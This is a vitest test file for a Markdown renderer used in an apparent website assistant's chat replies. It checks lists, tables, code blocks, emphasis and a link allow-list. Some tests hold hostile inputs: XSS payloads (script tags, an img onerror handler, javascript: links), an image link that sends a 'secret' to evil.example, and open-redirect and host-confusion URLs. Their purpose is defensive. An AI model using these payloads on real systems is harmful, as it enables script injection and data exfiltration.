import { describe, expect, test } from 'vitest'
import { allowedLink, parseReply, plainReply } from '../../../../src/assistant/conversation/reply-markdown.ts'

const allowAll = (href: string) => href
const inline = (line: string, allowed: (href: string) => string | undefined = allowAll) => {
  const [block] = parseReply(line, allowed)
  return block?.kind === 'paragraph' ? block.rows[0]?.[0] : undefined
}

describe('a reply', () => {
  test('has paragraphs with lines', () => {
    expect(parseReply('One\ntwo\n\nthree', allowAll)).toEqual([
      { kind: 'paragraph', rows: [[[{ text: 'One' }]], [[{ text: 'two' }]]] },
      { kind: 'paragraph', rows: [[[{ text: 'three' }]]] }
    ])
  })

  test('has lists, which may follow a paragraph without a blank line', () => {
    expect(parseReply('Plans:\n- Starter\n- Professional\n1. One\n2) Two', allowAll)).toMatchObject([
      { kind: 'paragraph' },
      { kind: 'list', rows: [[[{ text: 'Starter' }]], [[{ text: 'Professional' }]]] },
      { kind: 'list', start: 1 }
    ])
  })

  test.each([
    ['1. One\n\n2. Two\n\n3. Three', [1, 2, 3]],
    ['1. One\n   - a\n   - b\n2. Two\n3. Three\n   - c\n4. Four', [1, 2, 4]],
    ['1. One\n\n1. Two\n- a\n1. Three', [1, 2, 3]],
    ['5. Five', [5]],
    ['1. One\n\nThen:\n\n1. First', [1, 1]]
  ])('continues the numbers of a list that something splits: %j', (markdown, starts) => {
    const found = parseReply(markdown, allowAll).flatMap(({ start }) => start ?? [])
    expect(found).toEqual(starts)
  })

  test('has tables with Markdown in their cells', () => {
    const cell = (text: string) => [{ text }]
    const table = '| Plan | Price |\n|:-----|------:|\n| A \\| B | **$1** |\n| C | |'
    expect(parseReply(table, allowAll)).toEqual([
      {
        kind: 'table',
        rows: [
          [cell('Plan'), cell('Price')],
          [cell('A | B'), [{ tag: 'strong', text: '$1' }]],
          [cell('C'), []]
        ]
      }
    ])
    expect(plainReply(table)).toBe('Plan | Price\nA | B | $1\nC | ')
  })

  test('shows bars that are not a table as they are', () => {
    expect(inline('| or |')).toEqual([{ text: '| or |' }])
  })

  test('has emphasis, code and links', () => {
    expect(inline('**Bold**, *soft*, _soft_, `npm run dev` and [pricing](/pricing).')).toEqual([
      { tag: 'strong', text: 'Bold' },
      { text: ', ' },
      { tag: 'em', text: 'soft' },
      { text: ', ' },
      { tag: 'em', text: 'soft' },
      { text: ', ' },
      { tag: 'code', text: 'npm run dev' },
      { text: ' and ' },
      { text: 'pricing', href: '/pricing' },
      { text: '.' }
    ])
  })

  test('has code blocks without Markdown inside, even if the last one is not closed', () => {
    expect(parseReply('Run:\n```sh\nnpm **i**\n```\nDone\n```\nopen', allowAll)).toEqual([
      { kind: 'paragraph', rows: [[[{ text: 'Run:' }]]] },
      { kind: 'code', rows: [[[{ text: 'npm **i**' }]]] },
      { kind: 'paragraph', rows: [[[{ text: 'Done' }]]] },
      { kind: 'code', rows: [[[{ text: 'open' }]]] }
    ])
  })

  test('shows names with underscores and single asterisks unchanged', () => {
    expect(inline('max_tokens_limit and 2 * 3 * 4')).toEqual([{ text: 'max_tokens_limit and 2 * 3 * 4' }])
  })

  test.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '![spy](https://evil.example/?q=secret)',
    '<a href="javascript:alert(1)">x</a>'
  ])('shows %s as plain text', (hostile) => {
    const pieces = inline(hostile, (href) => allowedLink(href, 'https://site.test/', []))
    expect(pieces?.every(({ tag, href }) => !tag && !href)).toBe(true)
  })

  test('keeps the text of a link that is not allowed', () => {
    expect(inline('[click](javascript:alert)', (href) => allowedLink(href, 'https://site.test/', []))).toEqual([
      { text: 'click' }
    ])
  })

  test('has a plain text version for copying and for screen readers', () => {
    expect(plainReply('**Three** plans:\n\n- [Starter](/pricing)\n- `Pro`')).toBe('Three plans:\n\n- Starter\n- Pro')
  })
})

describe('links in replies', () => {
  const origin = 'https://site.test'
  test.each([
    ['/pricing#faq', '/pricing#faq'],
    ['https://site.test/faq', '/faq'],
    ['https://site.test/faq?a=1#b', '/faq?a=1#b'],
    ['/faq?a=1', '/faq?a=1'],
    ['/faq/../pricing', '/pricing'],
    ['https://site.test//evil.example/pay', undefined],
    ['https://site.test/\\\\evil.example/pay', undefined],
    ['/..//evil.example/pay', undefined],
    ['/%2e%2e//evil.example/pay', undefined],
    ['/\t/evil.example', undefined],
    ['https://me@site.test/faq', undefined],
    ['https://site.test@evil.example/', undefined],
    ['pricing', undefined],
    ['https://docs.test/page', 'https://docs.test/page'],
    ['http://docs.test/page', undefined],
    ['https://evil.test/', undefined],
    ['//evil.test/', undefined],
    ['/\\evil.test/', undefined],
    ['javascript:alert(1)', undefined],
    ['data:text/html,x', undefined],
    ['mailto:a@b.test', undefined]
  ])('%s leads to %s', (href, target) => {
    expect(allowedLink(href, origin, ['docs.test'])).toBe(target)
  })

  test.each([
    ['/pricing', '/shop/pricing'],
    ['/shop/pricing', '/shop/pricing'],
    ['//evil.example/pay', undefined],
    ['/shop//evil.example', '/shop//evil.example'],
    ['https://site.test/shop/faq#one', '/shop/faq#one']
  ])('with a base path: %s leads to %s', (href, target) => {
    expect(allowedLink(href, 'https://site.test/shop/', [])).toBe(target)
  })
})
